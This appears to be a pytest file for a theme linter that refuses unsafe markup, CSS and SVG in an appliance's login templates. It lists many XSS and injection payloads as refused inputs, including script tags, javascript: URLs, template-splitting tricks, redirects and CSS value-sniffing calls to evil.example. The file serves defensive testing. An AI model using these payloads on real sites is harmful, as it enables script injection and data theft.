"""The lint refuses markup, styles and pictures that could run or load what is not the theme's."""

import pytest

from appliance.pages.markup import lint_css, lint_markup, lint_svg
from appliance.pages.theme import compile_themes
from tests.pages.theme_folders import child, complaints, shipped

REFUSED = (
    "<script>alert(1)</script>",
    '<script src="https://evil.example/x.js"></script>',
    "<SCRIPT SRC='//evil.example'></SCRIPT>",
    "<scr{# #}ipt>alert(1)</script>",
    "<scr{% if 1 %}ipt>alert(1)</scr{% endif %}ipt>",
    "<{{ theme.id }}>",
    "</{{ theme.id }}>",
    "<img src=x onerror=alert(1)>",
    '<p {{ theme.id }}="x">x</p>',
    '<p on{{ theme.id }}="x">x</p>',
    "<p title={{ theme.id }}>x</p>",
    "<p title=a{{ theme.id }}>x</p>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="{{ locale }}">x</a>',
    '<a href="java{{ locale }}">x</a>',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="x"></form>',
    '<form action="{{ csrf }}"></form>',
    '<button formaction="https://evil.example/">x</button>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<img src="https://evil.example/x.png" alt="">',
    '<img srcset="https://evil.example/x.png 2x" alt="">',
    '<iframe src="/x"></iframe>',
    '<object data="/x"></object>',
    '<embed src="/x">',
    "<style>p{color:red}</style>",
    '<p style="color:red">x</p>',
    "<!-- x -->",
    "{% if 0 %}<!--{% endif %}<script>alert(1)</script>{% if 0 %}-->{% endif %}",
    '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "<svg><foreignObject><p>x</p></foreignObject></svg>",
    "<math><mi>x</mi></math>",
    "<template><p>x</p></template>",
    "<custom-element></custom-element>",
    "{{ '<b>'|safe }}",
    "{% autoescape false %}{{ csrf }}{% endautoescape %}",
    "{% filter upper %}x{% endfilter %}",
    '<a href="https://ok.example" target="_blank">x</a>',
    '<a title="unclosed',
    "<script>{{ csrf }}</script>",
    "<script>{{ auto_submit }};x</script>",
    "<?php x ?>",
)


@pytest.mark.attack("XS-11")
@pytest.mark.parametrize("source", REFUSED)
def test_refuses_markup_and_names_the_line(source: str) -> None:
    page = '{% extends "base:logged_out.html" %}\n{% block content %}\n' + source + "\n{% endblock %}"
    found = complaints(child(templates={"logged_out.html": page}))
    assert any(c.startswith("mine/templates/logged_out.html:") for c in found), found
    lines = {c.split(":")[1] for c in found if c.startswith("mine/templates/logged_out.html:")}
    assert lines & {"3", "4", "5"}, found


@pytest.mark.parametrize(
    "source",
    [
        '<p class="x">1 &lt; 2 &amp; {{ theme.name }}</p>',
        '<a href="https://help.example/a?b=c" rel="noreferrer">x</a>',
        '<a href="#login">x</a>',
        '<img src="{{ asset(\'logo.svg\') }}" alt="{{ theme.name }}">',
        '{% if client %}<a href="{{ client.policy_uri }}">x</a>{% endif %}',
        '<svg viewBox="0 0 1 1" aria-hidden="true"><path d="M0 0"/></svg>',
        '{% for l in links %}<a href="{{ l.href }}">{{ l.name|upper }}</a>{% endfor %}',
    ],
)
def test_accepts_plain_markup(source: str) -> None:
    page = '{% extends "base:logged_out.html" %}{% block content %}' + source + "{% endblock %}"
    assert complaints(child(templates={"logged_out.html": page})) == []


@pytest.mark.attack("XS-17")
@pytest.mark.parametrize(
    "css",
    [
        "input[value^=a]{background:url(//evil.example/a)}",
        "@import 'https://evil.example/x.css';",
        "@IMPORT url(x.css);",
        "p{width:expression(alert(1))}",
        "p{background:u\\72l(//evil.example)}",
        "p{background:url('https://evil.example/x')}",
        "p{background:url(data:image/svg+xml,x)}",
        "p{background:url(../../op.yaml)}",
        "p{background:url(missing.png)}",
        "p{background:image-set('https://evil.example/x' 1x)}",
        "p{behavior:url(x.htc)}",
        "/* */ p{background: URL( //evil.example ) }",
        "p{}</style><script>",
    ],
)
def test_refuses_styles_that_load_from_elsewhere(css: str) -> None:
    assert list(lint_css(css, frozenset({"font.woff2"})))
    assert any("assets/theme.css:1" in c for c in complaints(child(assets={"theme.css": css.encode()})))


def test_gives_styles_the_hashed_names_of_their_assets() -> None:
    css = b'@font-face{font-family:Own;src:url("own.woff2") format(\'woff2\')} p::before{content:"\\201C"}'
    compiled, problems = compile_themes(child(assets={"theme.css": css, "own.woff2": b"wOF2"}))
    assert problems == ()
    theme = compiled["mine"]
    sheet = theme.assets[theme.asset_names["mine.theme.css"]].decode()
    assert f'url("{theme.asset_names["own.woff2"]}")' in sheet
    assert theme.stylesheets[-1] == theme.asset_names["mine.theme.css"]


@pytest.mark.parametrize(
    "svg",
    [
        "<svg><script>alert(1)</script></svg>",
        "<svg onload='alert(1)'></svg>",
        "<svg><image href='https://evil.example/x.png'/></svg>",
        "<svg><use xlink:href='https://evil.example/x.svg#a'/></svg>",
        "<!DOCTYPE svg [<!ENTITY a 'b'>]><svg>&a;</svg>",
        "<svg><foreignObject/></svg>",
        "<svg><a href='javascript:alert(1)'><path/></a></svg>",
        "<svg><style>@import 'x'</style></svg>",
        "<?xml-stylesheet href='x'?><svg/>",
    ],
)
def test_refuses_pictures_that_run_or_load(svg: str) -> None:
    assert list(lint_svg(svg))
    assert any("assets/logo.svg:1" in c for c in complaints(child(assets={"logo.svg": svg.encode()})))


def test_accepts_a_picture_that_names_its_own_parts() -> None:
    assert not list(
        lint_svg('<svg><linearGradient id="a" href="#b"/><path fill="url(#a)" stroke="url(\'#a\')"/></svg>')
    )


def test_refuses_unsafe_addresses_in_rendered_pages_too() -> None:
    for markup in ('<a href="javascript:x">x</a>', "<script>x</script>", '<form action="data:x"></form>'):
        assert list(lint_markup(markup))
    assert not list(lint_markup('<form action="com.example.app:/cb"></form><a href="/x">x</a>'))


def test_themes_that_ship_have_nothing_inline() -> None:
    for theme in shipped().values():
        for name, source in theme.templates.items():
            assert "style=" not in source and "<style" not in source, name
            assert source.count("<script") == source.count("<script src=") + source.count("<script>{{ auto_submit")
    assert len(shipped()["default"].assets["enhance.js"]) <= 4096
